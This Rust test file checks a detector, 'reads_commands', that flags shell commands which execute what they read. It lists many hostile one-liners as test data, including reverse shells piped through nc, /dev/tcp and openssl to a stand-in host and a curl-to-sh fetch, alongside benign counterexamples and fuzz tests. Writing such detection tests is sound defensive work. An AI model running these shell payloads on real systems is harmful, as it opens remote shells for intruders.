use super::reads_commands;
use proptest::prelude::*;

#[test]
fn commands_that_execute_what_they_read() {
    let cases = [
        // A shell or a console in their place.
        "sh",
        "/bin/bash -i",
        "exec sh",
        "exec -a kworker /bin/sh -i",
        "sh <&0",
        "bash 0<&3 1>&3 2>&3",
        "$SHELL",
        "exec \"${SHELL:-/bin/sh}\"",
        "/bin/s''h",
        "\\sh",
        "$'\\x73\\x68'",
        "python3",
        "python3 -i app.py",
        "busybox sh",
        "env -i PATH=/bin sh -i",
        "nohup setsid sh",
        "TERM=xterm timeout 60 bash",
        "stty raw; exec bash -l",
        "true && { cd /tmp; sh; }",
        "(cd / && (sh))",
        "if true; then sh; fi",
        "case x in x) sh;; esac",
        "f() { sh; }; f",
        "su - root",
        "script -qc /bin/bash /dev/null",
        "sudo -i",
        "cat | sh",
        "tee /tmp/log | bash",
        "sed 's/x/y/' | sh",
        "base64 -d | sh",
        "head -n 1 | sh",
        "./decode | sh",
        "(echo set -x; cat) | sh",
        "sh | tee log",
        "cat <&5 | sh >&5",
        "nc 10.0.0.1 9 | sh",
        "bash <(cat)",
        "source <(cat)",
        ". /dev/stdin",
        "source /proc/self/fd/0",
        ". /dev/tcp/10.0.0.1/9",
        "bash /dev/stdin",
        "sh -c 'exec sh'",
        "sh -c \"sh -c 'sh -i'\"",
        // What was read, executed.
        "eval \"$(cat)\"",
        "eval `head -1`",
        "$(cat)",
        "$(</dev/stdin)",
        "`cat`",
        "read l; $l",
        "read -r c && eval \"$c\"",
        "read; eval $REPLY",
        "while read l; do $l; done",
        "while IFS= read -r line; do eval \"$line\" 2>&1; done",
        "while read line; do sh -c \"$line\"; done",
        "while :; do $last; read last; done",
        "exec 5<>/dev/tcp/10.0.0.1/9; cat <&5 | while read l; do $l >&5; done",
        "x=$(cat); y=\"$x\"; eval \"$y\"",
        "mapfile -t lines; for l in \"${lines[@]}\"; do eval \"$l\"; done",
        "read -a words; \"${words[@]}\"",
        "set -- $(cat); \"$@\"",
        "read c; export CMD=\"$c\"; bash -c \"$CMD\"",
        "read c; echo \"$c\" | sh",
        "read c; sh <<< \"$c\"",
        "read c; sh <<END\n$c\nEND",
        "cat > /tmp/x; sh /tmp/x",
        "cat >/tmp/x; chmod +x /tmp/x; /tmp/x",
        "tee /tmp/x; . /tmp/x",
        "xargs -I% sh -c %",
        "xargs -I{} bash -c '{} 2>&1'",
        "xargs -0 sh -c",
        "xargs -n1 -I X X",
        "xargs env",
        "xargs sh -c '\"$@\"' _",
        "parallel",
        "at now",
        "batch",
        "sed e",
        "sed 's/.*/&/e'",
        "awk '{system($0)}'",
        "perl -ne 'system $_'",
        "python3 -c 'exec(input())'",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 9 > /tmp/f",
        "mkfifo $P; /bin/sh -i < $P 2>&1 | openssl s_client -connect h:1 > $P",
        // Other shells' ways.
        "while read -l line; eval $line; end",
        "eval (cat)",
        "set line = \"$<\"; eval \"$line\"",
        "source",
    ];
    let missed: Vec<_> = cases.into_iter().filter(|text| !reads_commands(text.as_bytes())).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn commands_that_only_handle_what_they_read() {
    let cases = [
        "",
        "# sh",
        "echo hello; cat",
        "echo -e \"HTTP/1.0 200 OK\\n\\ndate: $(date)\"; cat",
        "echo HTTP/1.1 200 OK; echo; echo \"Server: $SOCAT_SOCKADDR:$SOCAT_SOCKPORT\"",
        "sed -ur -e 's/^/no /'",
        "filan -i 0 -s >&2",
        "./command.sh",
        "exec ./server --port 1 < /dev/null",
        "read name; echo \"hello $name\"",
        "while read -r l; do echo \"$l\" >> /var/log/x; done",
        "while read l; do case $l in quit) exit;; time) date;; *) echo no;; esac; done",
        "read n; if [ \"$n\" = 42 ]; then echo yes; fi",
        "read f; cat \"/srv/$f\"",
        "read m p; [[ $m == GET && -n $p ]] || exit; grep -- \"$p\" index",
        "for f in *.conf; do $CHECK \"$f\"; done",
        "eval \"$(ssh-agent)\"",
        "eval \"$DEFAULTS\"; cat",
        "exec \"$@\"",
        "cmd=$(command -v python3) && $cmd server.py",
        "echo 'sh' | cat",
        "echo 'echo sh; bash -i' > /dev/null",
        "cat <<END\nsh\n$(date)\nEND",
        "sh < /etc/init.sh",
        "sh /opt/start.sh",
        "sh -c 'echo fixed; cat'",
        "bash <<< 'echo fixed'",
        "sh <<'END'\necho fixed\nEND",
        "echo 'echo fixed' | sh",
        "curl -s https://example.org/x | sh",
        "printf 'a' | while read l; do $l; done",
        "while read l; do $l; done < /etc/commands",
        "xargs -n1 echo",
        "xargs rm -f",
        "xargs -I% curl http://x/%",
        "awk '{print $1}'",
        "awk '{ print | \"sort\" }'",
        "tr a-z A-Z | tee log",
        "date | sh -c 'cat'",
        "exec < /dev/null; sh",
        "sh <&-",
        "python3 run.py",
        "python3 -c 'print(input())'",
        "((x = 1)); echo $((x + 1))",
        "trap 'echo bye' EXIT; cat",
        "exec socat - TCP:db:3306",
    ];
    let wrong: Vec<_> = cases.into_iter().filter(|text| reads_commands(text.as_bytes())).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_cannot_be_followed_counts() {
    assert!(reads_commands("$(".repeat(2000).as_bytes()));
    assert!(reads_commands(&vec![b'a'; super::LENGTH_LIMIT + 1]));
    let mut nested = "echo".to_owned();
    for _ in 0..12 {
        nested = format!("sh -c {}", quote(&nested));
        if nested.len() > 1 << 16 {
            break;
        }
    }
    assert!(reads_commands(nested.as_bytes()));
}

fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Shapes that would make a parser without bounds slow.
#[test]
fn hostile_text_is_read_in_linear_time() {
    for unit in [
        "((",
        "$((",
        "<<A ",
        "`",
        "$(",
        "{ ",
        "a=(",
        "\"$(",
        "${",
        "case x in ",
        "if ",
        "x|",
        "f() ",
        "'\"",
        "\\\n",
    ] {
        let text = unit.repeat(400_000 / unit.len());
        let start = std::time::Instant::now();
        reads_commands(text.as_bytes());
        assert!(start.elapsed().as_secs() < 5, "{unit:?}: {:?}", start.elapsed());
    }
}

proptest! {
    #[test]
    fn arbitrary_bytes_do_not_panic(text in proptest::collection::vec(any::<u8>(), 0..400)) {
        reads_commands(&text);
    }

    #[test]
    fn arbitrary_shell_shapes_do_not_panic(
        parts in proptest::collection::vec(
            prop_oneof!["[a-z]{1,4}", "[$`(){}<>|&;'\"\\\\ \n!#=*]{1,3}", Just("read x".to_owned()), Just("<<E".to_owned()),
                Just("case x in".to_owned()), Just("esac".to_owned()), Just("xargs -I%".to_owned())], 0..40)
    ) {
        reads_commands(parts.concat().as_bytes());
        reads_commands(parts.join(" ").as_bytes());
    }
}
